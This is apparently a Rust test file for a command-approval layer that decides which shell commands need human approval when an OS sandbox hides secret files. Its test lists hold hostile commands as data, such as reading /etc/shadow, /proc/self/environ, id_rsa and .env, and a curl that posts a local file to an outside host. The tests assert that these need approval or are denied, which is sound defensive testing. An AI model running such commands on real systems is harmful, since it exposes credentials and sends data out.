//! How the OS sandbox decides about what a command reads: files that it hides, and places that it shows.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use askfirst::Approval::{Deny, Human, None as Free, Required};

use super::{Masked, SandboxView, World, world_in};

const READS: &str = "  known_read_only: none\n  rules: [ { pattern: 'git add', approval: none }, { pattern: 'tar', approval: none }, { pattern: 'curl', approval: none }, { pattern: 'sh', approval: none }, { pattern: .venv/bin/python, approval: none } ]\n  network: true\n";
const SHOWN: [&str; 2] = ["/usr", "/etc/hosts"];

/// A sandbox that counts how often someone asks whether it hides files.
struct CountingView(Masked, Arc<AtomicUsize>);

impl SandboxView for CountingView {
    fn masked(&self) -> Masked {
        self.1.fetch_add(1, Ordering::Relaxed);
        self.0
    }

    fn shown(&self) -> &[&str] {
        &SHOWN
    }

    fn is_in_toolchain(&self, path: &Path) -> bool {
        path.starts_with("/opt/python")
    }
}

fn counting(masked: Masked, shell: &str) -> (World, Arc<AtomicUsize>) {
    let count = Arc::new(AtomicUsize::new(0));
    let view = Box::new(CountingView(masked, Arc::clone(&count)));
    let world = world_in("  never_read: [.env, '*.pem']\n", shell, view);
    world.write(".env", "x").write("k.pem", "x").write("certs/a.pem", "x").write("src/.env", "x");
    (world, count)
}

// invariant: 4
#[test]
fn search_beside_a_hidden_file_depends_on_the_sandbox() {
    for (masked, expected) in [(Masked::BySandbox, Free), (Masked::No, Human)] {
        let (world, _) = counting(masked, READS);
        for command in
            ["rg x", "grep -rn x .", "grep -R x src", "find . -exec cat {} +", "git add -A", "tar cf x ."]
        {
            assert_eq!(world.says(command), expected, "{command} ({masked:?})");
        }
        assert_eq!(world.says("ls -R"), Free);
        assert_eq!(world.says("rg x build"), Free);
    }
}

#[test]
fn wildcard_leaves_out_hidden_files_unless_it_finds_only_those() {
    let (world, _) = counting(Masked::BySandbox, READS);
    for command in ["cat *", "ls *", "head -1 ./*", "for f in *; do cat \"$f\"; done"] {
        assert_eq!(world.says(command), Free, "{command}");
    }
    for command in
        ["cat *.pem", "cat certs/*", "cat .e*", "cat k.pem", "cat * k.pem", "cat .env", "cat < .env"]
    {
        assert_eq!(world.says(command), Deny, "{command}");
    }
    assert_eq!(counting(Masked::No, READS).0.says("cat *"), Deny);
}

#[test]
fn sandbox_is_looked_for_only_if_the_verdict_depends_on_it() {
    let (world, count) = counting(Masked::BySandbox, READS);
    for command in
        ["ls -la", "cat a.txt src/main.rs", "rg x build", "cat .env", "cat /etc/shadow", "rm a.txt"]
    {
        world.says(command);
        assert_eq!(count.load(Ordering::Relaxed), 0, "{command}");
    }
    for command in ["rg x", "cat *", "cat /etc/hosts"] {
        count.store(0, Ordering::Relaxed);
        world.says(command);
        assert!(count.load(Ordering::Relaxed) > 0, "{command}");
    }
}

#[test]
fn places_that_the_sandbox_shows_are_only_read_without_asking() {
    let (world, _) = counting(Masked::BySandbox, READS);
    for command in ["cat /etc/hosts", "ls /usr", "cd /usr && ls", "cat /usr/../etc/hosts", "/usr/bin/ls"] {
        assert_eq!(world.says(command), Free, "{command}");
    }
    for command in [
        "cat /etc/shadow",
        "cat /usr/../etc/shadow",
        "cat /etc/hosts2",
        "ls /etc",
        "grep -r x /",
        "cat /proc/self/environ",
        "cat /usr/id_rsa",
        "cp a.txt /usr/x",
        "echo x > /etc/hosts",
        "sh /usr/share/x.sh",
        "sh /usr/bin/x",
        "/usr/share/x",
        "curl -d @/etc/hosts http://x/",
        "curl file:///etc/hosts",
    ] {
        assert_eq!(world.says(command), Required, "{command}");
    }
    assert_eq!(counting(Masked::No, READS).0.says("cat /etc/hosts"), Required);
    let stricter = counting(Masked::BySandbox, &format!("{READS}  outside_roots: deny\n")).0;
    assert_eq!(stricter.says("cat /etc/hosts"), Deny);
}

// invariant: 4
#[test]
fn toolchain_is_read_without_asking_only_in_a_sandbox() {
    for (masked, expected) in [(Masked::BySandbox, Free), (Masked::No, Required)] {
        let (world, _) = counting(masked, READS);
        assert_eq!(world.says("cat /opt/python/lib/os.py"), expected, "{masked:?}");
        assert_eq!(world.says("cat /opt/other/lib/os.py"), Required, "{masked:?}");
        assert_eq!(world.says("touch /opt/python/lib/os.py"), Required, "{masked:?}");
    }
}

#[test]
fn rule_covers_a_virtual_environment_of_a_shown_toolchain() {
    let (world, _) = counting(Masked::BySandbox, READS);
    let link = |to: &str, name: &str| std::os::unix::fs::symlink(to, world.folder.path().join(name)).unwrap();
    world.write(".venv/pyvenv.cfg", "");
    std::fs::create_dir(world.folder.path().join(".venv/bin")).unwrap();
    let python = world.folder.path().join(".venv/bin/python");
    for (target, expected) in [
        ("/opt/python/bin/python3", Free),
        ("/usr/bin/python3", Free),
        ("/opt/python/lib/python3", Required),
        ("/usr/share/python3", Required),
        ("/opt/other/bin/python3", Required),
    ] {
        link(target, ".venv/bin/python");
        assert_eq!(world.says(".venv/bin/python -m pytest"), expected, "{target}");
        std::fs::remove_file(&python).unwrap();
    }
    assert_eq!(world.says("sh /opt/python/bin/x"), Required, "a script is no program");
}

#[test]
fn link_to_a_shown_place_is_followed_without_asking() {
    let (world, _) = counting(Masked::BySandbox, READS);
    let link = |to: &str, name: &str| std::os::unix::fs::symlink(to, world.folder.path().join(name)).unwrap();
    link("/etc/hosts", "build/hosts");
    assert_eq!(world.says("cat build/hosts"), Free);
    assert_eq!(world.says("grep -R x build"), Free);
    assert_eq!(world.says("echo x | tee build/hosts"), Required);
    link("/etc/shadow", "build/shadow");
    assert_eq!(world.says("cat build/shadow"), Required);
    assert_eq!(world.says("grep -R x build"), Required);
}
